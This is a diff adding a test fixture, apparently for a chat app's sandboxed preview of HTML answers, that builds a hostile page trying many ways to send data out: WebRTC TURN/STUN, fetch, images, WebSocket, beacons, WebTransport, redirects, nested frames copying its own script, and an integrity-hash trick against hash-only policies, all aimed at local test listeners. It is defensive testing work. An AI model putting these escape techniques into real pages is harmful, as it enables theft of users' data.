@@ -158,3 +158,154 @@ export const hostileAnswer = [
   '```html\n<script>window.__pwned = "code"</script>\n```',
   'End of corpus.',
 ].join('\n\n');
+
+/**
+ * An HTML answer that tries every way out of its preview we know of: WebRTC (STUN and TURN over
+ * UDP, from the page, its inline handlers, nested frames and copies of its own allowed scripts)
+ * and HTTP. It writes each outcome into #probe and sets data-done when it has waited long enough
+ * for the nested frames to report.
+ */
+export function exfiltrationProbe({
+  app,
+  ...ports
+}: {
+  app: string;
+  stun: number;
+  turn: number;
+  http: number;
+  quic: number;
+}) {
+  const http = `http://127.0.0.1:${ports.http}`;
+  // One function, as text, so nested documents can carry their own copy. No double quotes and no
+  // closing script tag in it: it also lives in attributes and inside srcdoc strings.
+  const rtcAttempt = `(label, Ctor, report) => {
+  try {
+    if (typeof Ctor !== 'function') { report(label, 'blocked: no RTCPeerConnection'); return; }
+    const pc = new Ctor({ iceCandidatePoolSize: 1, iceServers: [
+      { urls: 'turn:127.0.0.1:${ports.turn}?transport=udp', username: 'leak-' + label, credential: 'x' },
+      { urls: 'stun:127.0.0.1:${ports.stun}' },
+    ] });
+    pc.createDataChannel('probe');
+    pc.createOffer().then((offer) => pc.setLocalDescription(offer)).then(
+      () => report(label, 'LEAKED: offer set'),
+      (error) => report(label, 'blocked: ' + error.name),
+    );
+  } catch (error) { report(label, 'blocked: ' + error.name); }
+}`;
+  const toParent = `(label, outcome) => parent.postMessage({ label, outcome }, '*')`;
+  // A script the page never had: a nested document runs it in a realm of its own.
+  const freshChild = `(${rtcAttempt})(name, window.RTCPeerConnection, ${toParent});`;
+  // Shadows what a prelude might name, so a prelude that uses them fails in the copy's realm.
+  const shadowing = `let globalThis = 0, self = 0, Object = 0, Reflect = 0;
+if (name === 'copyShadow' || name === 'copyShadowModule') (${rtcAttempt})(name, RTCPeerConnection, ${toParent});`;
+  const main = `(() => {
+  const rtcAttempt = ${rtcAttempt};
+  // A copy of this very script, running in a nested document.
+  if (name === 'copy' || name === 'copyModule') {
+    rtcAttempt(name, window.RTCPeerConnection, ${toParent});
+    setTimeout(() => { location.href = '${http}/copy-navigate'; }, 300);
+    return;
+  }
+  const outcomes = {};
+  for (const label of ['rtc', 'webkit', 'bodyOnload', 'onclick', 'scriptChild', 'markupChild',
+    'copy', 'copyModule', 'copyShadow', 'copyShadowModule', 'fetch', 'img', 'image', 'webSocket',
+    'beacon', 'webTransport', 'sriListener', 'sriApp']) outcomes[label] = 'no report';
+  const probe = document.getElementById('probe');
+  const record = (label, outcome) => {
+    outcomes[label] = outcome;
+    probe.textContent = JSON.stringify(outcomes);
+  };
+  window.rtcProbe = (label, Ctor) => rtcAttempt(label, Ctor, record);
+  addEventListener('message', (event) => {
+    if (event.data && event.data.label in outcomes) record(event.data.label, event.data.outcome);
+  });
+
+  rtcAttempt('rtc', window.RTCPeerConnection, record);
+  rtcAttempt('webkit', window.webkitRTCPeerConnection, record);
+  document.getElementById('rtc-button').click();
+
+  const close = '</' + 'script>';
+  const child = (name, html) => {
+    const frame = document.createElement('iframe');
+    frame.name = name;
+    frame.srcdoc = html;
+    document.body.append(frame);
+  };
+  const own = document.currentScript.textContent;
+  const shadow = document.getElementById('shadow').getAttribute('onclick');
+  child('scriptChild', '<script>' + ${JSON.stringify(freshChild)} + close);
+  child('copy', '<script>' + own + close);
+  child('copyModule', '<script type=module>' + own + close);
+  child('copyShadow', '<script>' + shadow + close);
+  child('copyShadowModule', '<script type=module>' + shadow + close);
+
+  fetch('${http}/fetch?secret=1').then(() => record('fetch', 'LEAKED'), () => record('fetch', 'blocked'));
+  const img = document.createElement('img');
+  img.onload = () => record('img', 'LEAKED');
+  img.onerror = () => record('img', 'blocked');
+  img.src = '${http}/img?secret=1';
+  document.body.append(img);
+  const image = new Image();
+  image.onload = () => record('image', 'LEAKED');
+  image.onerror = () => record('image', 'blocked');
+  image.src = '${http}/image?secret=1';
+  try {
+    const socket = new WebSocket('ws://127.0.0.1:${ports.http}/socket?secret=1');
+    socket.onopen = () => record('webSocket', 'LEAKED');
+    socket.onerror = () => record('webSocket', 'blocked');
+  } catch (error) { record('webSocket', 'blocked: ' + error.name); }
+  try {
+    record('beacon', 'sendBeacon returned ' + navigator.sendBeacon('${http}/beacon', 'secret=1'));
+  } catch (error) { record('beacon', 'blocked: ' + error.name); }
+  try {
+    new WebTransport('https://127.0.0.1:${ports.quic}/transport').ready.then(
+      () => record('webTransport', 'LEAKED'), () => record('webTransport', 'blocked'));
+  } catch (error) { record('webTransport', 'blocked: ' + error.name); }
+  // An external script whose integrity is the hash of an allowed inline script: a policy of
+  // hashes alone lets it load. Whether a policy refused it shows as a violation event.
+  const refused = [];
+  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.blockedURI));
+  const withIntegrity = (label, url) => {
+    try {
+      crypto.subtle.digest('SHA-256', new TextEncoder().encode(own)).then((digest) => {
+        const script = document.createElement('script');
+        script.integrity = 'sha256-' + btoa(String.fromCharCode(...new Uint8Array(digest)));
+        const settle = () => setTimeout(() => record(label, refused.some((uri) => uri && url.startsWith(uri))
+          ? 'blocked' : 'LEAKED: requested'), 200);
+        script.onload = settle;
+        script.onerror = settle;
+        script.src = url;
+        document.body.append(script);
+      });
+    } catch (error) { record(label, 'no digest: ' + error.name); }
+  };
+  withIntegrity('sriListener', '${http}/script?secret=1');
+  withIntegrity('sriApp', '${app}/api/backends?secret=1');
+  setTimeout(() => { probe.dataset.done = 'true'; }, 2000);
+})();`;
+  const attribute = (value: string) => value.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
+  return `A page that checks its own sandbox.
+
+\`\`\`html
+<!DOCTYPE html>
+<html lang="en">
+<head>
+<meta charset="utf-8">
+<title>Probe</title>
+<style>body { font: 11px monospace; } iframe { width: 40px; height: 20px; }</style>
+</head>
+<body onload="window.rtcProbe('bodyOnload', window.RTCPeerConnection)">
+<pre id="probe"></pre>
+<button id="rtc-button" onclick="window.rtcProbe('onclick', RTCPeerConnection)">WebRTC</button>
+<button id="navigate" onclick="location.href = '${http}/navigate?secret=1'">Navigate</button>
+<div id="shadow" hidden onclick="${attribute(shadowing)}"></div>
+<iframe name="markupChild" srcdoc="${attribute(`<script>${freshChild}</script>`)}"></iframe>
+<iframe srcdoc="${attribute(`<meta http-equiv="refresh" content="0;url=${http}/refresh">`)}"></iframe>
+<script>
+${main}
+</script>
+</body>
+</html>
+\`\`\`
+`;
+}
